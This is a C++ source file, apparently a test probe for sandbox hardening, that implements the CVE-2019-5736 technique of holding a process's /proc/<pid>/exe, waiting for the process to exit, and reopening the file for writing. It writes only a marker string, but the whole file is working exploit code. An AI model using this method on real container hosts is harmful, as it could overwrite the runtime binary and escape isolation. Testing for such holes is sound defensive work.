// The runtime's own binary through /proc/<pid>/exe (CVE-2019-5736).
//
// reach_exe         tries every pid up to 1000 for writing, and its own child's file once that has
//                   ended; prints a line for each file that opens, then "tried".
// reach_exe PID     takes the file of one process, prints "held", waits for its end, opens the file
//                   for writing through the descriptor and writes into it; prints "wrote".
#include <fcntl.h>
#include <poll.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <initializer_list>

namespace {

constexpr int kLastPid = 1000;

void say(const char* what, const char* path) {
  (void)std::printf("%s %s\n", what, path);
  (void)std::fflush(stdout);
}

void try_path(const char* path) {
  for (const int mode : {O_WRONLY, O_RDWR}) {
    const int fd = ::open(path, mode | O_CLOEXEC);
    if (fd < 0) continue;
    say("opened", path);
    (void)::close(fd);
  }
}

// While a file runs it cannot be written; the attack holds it and waits for that to end.
int reopen_for_writing(int held) {
  char path[32];
  (void)std::snprintf(path, sizeof path, "/proc/self/fd/%d", held);
  return ::open(path, O_WRONLY | O_CLOEXEC);
}

int open_exe(int pid) {
  char path[32];
  (void)std::snprintf(path, sizeof path, "/proc/%d/exe", pid);
  return ::open(path, O_RDONLY | O_CLOEXEC);
}

void try_everybody() {
  for (int pid = 1; pid <= kLastPid; ++pid) {
    for (const char* const form : {"/proc/%d/exe", "/proc/%d/task/%d/exe"}) {
      char path[64];
      (void)std::snprintf(path, sizeof path, form, pid, pid);
      try_path(path);
    }
  }
  try_path("/proc/self/exe");
  try_path("/proc/thread-self/exe");
  const int own_parent = open_exe(::getppid());
  if (own_parent >= 0) say("held", "the parent's");
}

void try_own_child() {
  const pid_t child = ::fork();
  if (child == 0) {
    (void)::pause();
    ::_exit(0);
  }
  const int held = open_exe(child);
  (void)::kill(child, SIGKILL);
  (void)::waitpid(child, nullptr, 0);
  if (held >= 0 && reopen_for_writing(held) >= 0) say("opened", "the child's");
}

int rewrite(int pid) {
  const int pidfd = static_cast<int>(::syscall(SYS_pidfd_open, pid, 0));
  const int held = open_exe(pid);
  if (pidfd < 0 || held < 0) return 1;
  say("held", "it");
  pollfd end{pidfd, POLLIN, 0};
  if (::poll(&end, 1, -1) != 1) return 1;
  const int written = reopen_for_writing(held);
  if (written < 0 || ::write(written, "attack", 6) != 6) return 1;
  say("wrote", "it");
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc > 1) return rewrite(std::atoi(argv[1]));
  try_everybody();
  try_own_child();
  (void)std::printf("tried\n");
  return 0;
}
